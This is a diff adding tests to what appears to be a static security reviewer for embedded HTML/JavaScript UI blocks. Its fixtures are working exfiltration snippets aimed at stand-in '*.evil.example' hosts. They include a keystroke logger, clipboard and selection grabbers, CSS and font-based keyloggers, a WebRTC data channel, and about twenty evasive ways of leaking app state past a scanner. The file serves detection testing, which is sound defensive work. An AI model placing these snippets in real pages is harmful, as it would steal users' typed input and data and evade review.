@@ -124,3 +124,128 @@ def test_deep_or_slow_scripts_give_a_finding_not_a_hang():
     findings = review_static(long, time_limit=0.01)
     assert time.monotonic() - start < 5
     assert [f.rule for f in findings] == ["source.too-complex"] and "time limit" in findings[0].message
+
+
+# ------------------------------------------------------------------ what the user types (issue 22)
+
+def rules_of(source: str, **kw) -> list[tuple[str, str, list[str], list[str]]]:
+    return [(f.rule, f.severity, f.paths, f.hosts) for f in review_static(source, **kw)
+            if f.rule not in ("url.external", "projection.unprojected-read", "projection.sensitive-path")]
+
+
+@pytest.mark.parametrize("source, inputs", [
+    ("<input id=q><script>const log = []; document.addEventListener('keydown', (e) => log.push({t: 1, k: e.key}));\n"
+     "setInterval(() => { new Image().src = 'https://k.evil.example/?b=' + JSON.stringify(log.splice(0)); }, 500);</script>",
+     ["input:keydown"]),
+    ("<input id=email><script>const f = document.getElementById('email');\n"
+     "f.addEventListener('change', () => { document.body.style.background = `url(https://e.evil.example/${f.value})`; });"
+     "</script>", ["input:#email"]),
+    ("<input name=n><script>document.querySelector('input').oninput = function (ev) {\n"
+     "  const i = new Image(); i.src = 'https://t.evil.example/' + ev.target.value; };</script>", ["input:[name=n]"]),
+    ("<form id=f><input name=a></form><script>const q = new URLSearchParams(new FormData(document.getElementById('f')));\n"
+     "location.href = 'https://f.evil.example/?' + q;</script>", ["input:[name=a]"]),
+    ("<script>document.addEventListener('mouseup', () => {\n"
+     "  new Image().src = 'https://s.evil.example/?s=' + window.getSelection().toString(); });</script>", ["input:selection"]),
+    ("<script>navigator.clipboard.readText().then((t) => { new Image().src = 'https://c.evil.example/?c=' + t; });</script>",
+     ["input:clipboard"]),
+    ("<div id=m contenteditable></div><script>const m = document.getElementById('m');\n"
+     "m.addEventListener('blur', () => { new Image().src = 'https://m.evil.example/?t=' + btoa(m.innerText); });</script>",
+     ["input:#m"]),
+    ("<textarea oninput=\"new Image().src = 'https://h.evil.example/' + event.data\"></textarea>", ["input:input"]),
+])
+def test_what_the_user_types_is_a_source(source, inputs):
+    found = [r for r in rules_of(source) if r[0] == "exfil.input-to-url"]
+    assert [(r[1], r[2]) for r in found] == [("high", inputs)], rules_of(source)
+
+
+def test_input_that_stays_in_the_block_or_goes_to_the_host_is_quiet():
+    counter = ("<textarea id=t></textarea><span id=n></span><script>const t = document.getElementById('t');\n"
+               "t.addEventListener('input', (e) => { document.getElementById('n').textContent = e.target.value.length; });\n"
+               "t.addEventListener('keydown', (e) => { if (e.key === 'Enter') flowUi.send('done', {text: t.value}); });</script>")
+    assert rules_of(counter) == [("bridge.send", "info", [], [])]
+    preview = "<input id=u><img id=p alt=''><script>u.oninput = () => { p.src = document.getElementById('u').value; };</script>"
+    assert rules_of(preview) == []  # the user's own URL, loaded as typed
+
+
+def test_css_keylogger_mirror_and_unicode_range_are_high():
+    mirror = ("<style>input[value$=a]{background:url(https://k.evil.example/a)}</style><input id=pw>\n"
+              "<script>const pw = document.getElementById('pw'); pw.addEventListener('input', () => "
+              "pw.setAttribute('value', pw.value));</script>")
+    assert ("exfil.css-keylogger", "high", ["input:#pw"], ["k.evil.example"]) in rules_of(mirror)
+    no_mirror = "<style>input[value$=a]{background:url(https://k.evil.example/a)}</style><input id=pw>"
+    assert [r[0] for r in rules_of(no_mirror)] == ["exfil.css-attribute-selector"]
+    fonts = ("<style>@font-face{font-family:F;src:url(https://f.evil.example/a);unicode-range:U+61}\n"
+             "@font-face{font-family:F;src:url(https://f.evil.example/b);unicode-range:U+62}"
+             "input{font-family:F}</style><input id=q>")
+    assert rules_of(fonts) == [("exfil.css-keylogger", "high", ["input:#q"], ["f.evil.example"])]
+
+
+# ------------------------------------------------------------------ the language, not a list of spellings
+
+EVASIONS = {
+    "destructured state": "const {state} = flowUi; new Image().src = 'https://x.evil.example/?' + state.order.total;",
+    "alias": "const f = flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
+    "bound get": "const g = flowUi.get.bind(flowUi); new Image().src = 'https://x.evil.example/?' + g('order.total');",
+    "get.call": "new Image().src = 'https://x.evil.example/?' + flowUi.get.call(flowUi, 'order.total');",
+    "Reflect.get": "const s = Reflect.get(flowUi, 'state'); new Image().src = 'https://x.evil.example/?' + s.order.total;",
+    "Reflect.apply": "const v = Reflect.apply(flowUi.get, flowUi, ['order.total']); "
+                     "new Image().src = 'https://x.evil.example/?' + v;",
+    "computed src": "const i = new Image(); i['src'] = 'https://x.evil.example/?' + flowUi.get('order.total');",
+    "computed location": "location['href'] = 'https://x.evil.example/?' + flowUi.get('order.total');",
+    "Object.assign": "Object.assign(new Image(), {src: 'https://x.evil.example/?' + flowUi.get('order.total')});",
+    "with": "const i = new Image(); with (i) { src = 'https://x.evil.example/?' + flowUi.get('order.total'); }",
+    "Map": "const m = new Map(); m.set('t', flowUi.get('order.total'));"
+           " new Image().src = 'https://x.evil.example/?' + m.get('t');",
+    "array push/join": "const a = []; a.push(flowUi.get('order.total'));"
+                       " new Image().src = 'https://x.evil.example/?' + a.join(',');",
+    "class field + getter": "class T { v = flowUi.get('order.total'); get u() { return 'https://x.evil.example/?' + this.v; } }"
+                            " new Image().src = new T().u;",
+    "CustomEvent.detail": "addEventListener('x', (e) => { new Image().src = 'https://x.evil.example/?' + e.detail; });"
+                          " dispatchEvent(new CustomEvent('x', {detail: flowUi.get('order.total')}));",
+    "dataset": "document.querySelector('p').dataset.k = flowUi.get('order.total');"
+               " new Image().src = 'https://x.evil.example/?' + document.querySelector('p').dataset.k;",
+    "<style> text": "const st = document.createElement('style');"
+                    " st.textContent = 'p{background:url(https://x.evil.example/' + flowUi.get('order.total') + ')}';",
+    "insertRule": "document.styleSheets[0].insertRule('p{background:url(https://x.evil.example/'"
+                  " + flowUi.get('order.total') + ')}');",
+    "replaceSync": "const sh = new CSSStyleSheet(); sh.replaceSync(`p{background:url(https://x.evil.example/${"
+                   "flowUi.get('order.total')})}`);",
+    "style.setProperty": "document.body.style.setProperty('background', 'url(https://x.evil.example/'"
+                         " + flowUi.get('order.total') + ')');",
+    "setAttributeNS": "document.querySelector('p').setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href',"
+                      " 'https://x.evil.example/?' + flowUi.get('order.total'));",
+}
+
+
+@pytest.mark.parametrize("name", sorted(EVASIONS))
+def test_evasive_spellings_are_followed(name):
+    found = rules_of(f"<p></p><script>{EVASIONS[name]}</script>", fields=["order.total"])
+    assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in found, found
+
+
+def test_an_unproven_flow_needs_manual_review():
+    hidden = ("<p></p><script>const t = flowUi.get('order.total'); const k = ['s', 'r', 'c'].join('');\n"
+              "const i = new Image(); i[k] = atob('aHR0cHM6Ly94LmV2aWwuZXhhbXBsZS8=') + t;</script>")
+    assert ("exfil.possible-flow", "medium", ["order.total"], []) in rules_of(hidden, fields=["order.total"])
+    # State and no way out: quiet. A way out and no data read: quiet.
+    assert rules_of("<p></p><script>document.querySelector('p').title = flowUi.get('order.total');</script>",
+                    fields=["order.total"]) == []
+    assert [r[0] for r in rules_of("<script>const k = 'src'; new Image()[k] = atob('aHR0cHM6Ly94Lw==');</script>")] \
+        == ["obfuscation.decode"]
+
+
+def test_from_char_code_on_data_is_not_obfuscation():
+    tool = ("<textarea id=s></textarea><script>const s = document.getElementById('s');\n"
+            "s.value = s.value.replace(/&#(\\d+);/g, (m, d) => String.fromCharCode(parseInt(d, 10)));</script>")
+    assert rules_of(tool) == []
+    hidden = "<script>const h = String.fromCharCode(104, 116, 116, 112, 115);</script>"
+    assert [r[0] for r in rules_of(hidden)] == ["obfuscation.decode"]
+
+
+def test_webrtc_names_what_it_carries():
+    source = ("<script>const pc = new RTCPeerConnection({iceServers: [{urls: 'turn:t.evil.example',"
+              " username: flowUi.get('user.id'), credential: 'x'}]});\n"
+              "const dc = pc.createDataChannel(flowUi.get('order.id')); dc.onopen = () => dc.send(flowUi.get('cart.total'));"
+              "</script>")
+    assert rules_of(source, fields=["user.id", "order.id", "cart.total"]) == [
+        ("channel.webrtc", "high", ["cart.total", "order.id", "user.id"], [])]
